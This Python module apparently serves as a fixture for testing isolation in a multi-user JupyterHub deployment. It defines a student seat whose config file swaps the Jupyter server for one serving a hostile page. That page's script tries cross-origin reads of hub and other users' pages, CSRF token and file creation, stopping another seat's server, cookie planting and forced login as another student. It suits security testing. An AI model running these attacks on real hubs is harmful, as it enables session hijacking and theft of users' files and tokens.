"""A seat whose student has replaced the server by a page that attacks who opens it."""

from __future__ import annotations

from typing import Final

CONFIG: Final = """\
import os, sys
os.execv(sys.executable, [sys.executable, os.path.expanduser("~/server.py")])
"""
"""`~/.jupyter/jupyter_server_config.py`: the server of the seat executes it when it starts."""

SERVER: Final = """\
import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        with open(os.path.expanduser("~/page.html"), "rb") as file:
            content = file.read()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

ThreadingHTTPServer(("", 8888), Handler).serve_forever()
"""

PAGE: Final = """\
<!doctype html>
<script>
const {hub, victim, user, password} = Object.fromEntries(new URLSearchParams(location.search));
const pages = {
  home: hub + '/hub/home', token: hub + '/hub/token', admin: hub + '/hub/admin',
  users: hub + '/hub/api/users', me: hub + '/hub/api/user',
  lab: victim + 'lab', file: victim + 'api/contents/secret.txt',
};
const results = {};

async function attempt(name, action) {
  const late = new Promise((_, refuse) => setTimeout(() => refuse('no answer'), 10000));
  try { results[name] = String(await Promise.race([action(), late])); }
  catch (error) { results[name] = 'refused: ' + error; }
}

const content = win => win.document.documentElement.outerHTML;

function asked(method, url, headers, body) {
  return new Promise((resolve, refuse) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    for (const name in headers) request.setRequestHeader(name, headers[name]);
    request.onload = () => resolve(request.status + ' ' + request.responseText);
    request.onerror = () => refuse('error');
    request.send(body);
  });
}

function framed(url) {
  return new Promise(resolve => {
    const frame = document.createElement('iframe');
    frame.onload = () => resolve(frame.contentWindow);
    frame.src = url;
    document.body.append(frame);
  }).then(content);
}

// A window of another origin says nothing about its state, so that there is a time limit.
async function opened(url) {
  const win = window.open(url);
  const until = Date.now() + 6000;
  try {
    while (Date.now() < until) {
      await new Promise(done => setTimeout(done, 100));
      if (win.location.href !== 'about:blank' && win.document.readyState === 'complete') break;
    }
    win.postMessage('who are you?', '*');
    return win.closed ? 'closed' : content(win);
  } finally { win.close(); }
}

async function posted(url, fields, enctype) {
  const form = document.createElement('form');
  Object.assign(form, {method: 'POST', action: url, target: 'answer', enctype});
  for (const name in fields) {
    const field = document.createElement('input');
    Object.assign(field, {name, value: fields[name]});
    form.append(field);
  }
  document.body.append(form);
  const win = window.open('about:blank', 'answer');
  form.submit();
  await new Promise(done => setTimeout(done, 3000));
  try { return content(win); } finally { win.close(); }
}

function connected(url) {
  return new Promise((resolve, refuse) => {
    const socket = new WebSocket(url.replace('http', 'ws'));
    socket.onopen = () => { socket.close(); resolve('connected'); };
    socket.onerror = () => refuse('error');
  });
}

async function attack() {
  for (const name in pages) {
    const url = pages[name];
    await Promise.all([
      attempt('fetch ' + name, async () =>
        (await fetch(url, {credentials: 'include'})).text()),
      attempt('fetch without CORS ' + name, async () =>
        (await fetch(url, {credentials: 'include', mode: 'no-cors'})).text()),
      attempt('XHR ' + name, () => asked('GET', url, {})),
      attempt('frame ' + name, () => framed(url)),
      attempt('window ' + name, () => opened(url)),
    ]);
  }
  const known = Object.values(results).join().match(/xsrf_token: "([^"]+)"/);
  const xsrf = known ? known[1] : document.cookie.replace(/.*_xsrf=/, '');
  const json = {'X-XSRFToken': xsrf, 'Content-Type': 'application/json'};
  const note = JSON.stringify({note: 'hostile'});
  const tokens = hub + '/hub/api/users/' + user + '/tokens';
  const server = hub + '/hub/api/users/seat-01/server';
  await attempt('make a token', () => asked('POST', tokens, json, note));
  await attempt('make a token by a form', () =>
    posted(tokens + '?_xsrf=' + xsrf, {'{"note":"hostile","x":"': '"}'}, 'text/plain'));
  await attempt('make a token without CORS', async () =>
    (await fetch(tokens + '?_xsrf=' + xsrf,
      {method: 'POST', body: note, credentials: 'include', mode: 'no-cors'})).text());
  await attempt('make a file', () => asked('POST', victim + 'api/contents', json, '{}'));
  await attempt('make a file by a form', () =>
    posted(victim + 'api/contents?_xsrf=' + xsrf, {'{"ext":".txt","x":"': '"}'}, 'text/plain'));
  await attempt('socket', () => connected(victim + 'api/events/subscribe'));
  await attempt('stop the seat', () => asked('DELETE', server, json));
  await attempt('JupyterHub at the own address', async () =>
    (await fetch('/hub/login')).status);
  const domain = '; Path=/; Domain=' + location.hostname.replace('seat-02.', '');
  for (const name of ['__Host-jupyterhub-hub-login', 'jupyterhub-hub-login', '_xsrf',
                      'jupyterhub-session-id', '__Host-jupyterhub-user-seat-01'])
    document.cookie = name + '=planted' + domain + '; Secure';
  await attempt('sign in as another student', () =>
    posted(hub + '/hub/login', {username: 'seat-02', password, _xsrf: xsrf}, ''));
  return results;
}
const done = new Promise(resolve => onload = () => resolve(attack()));
</script>
"""
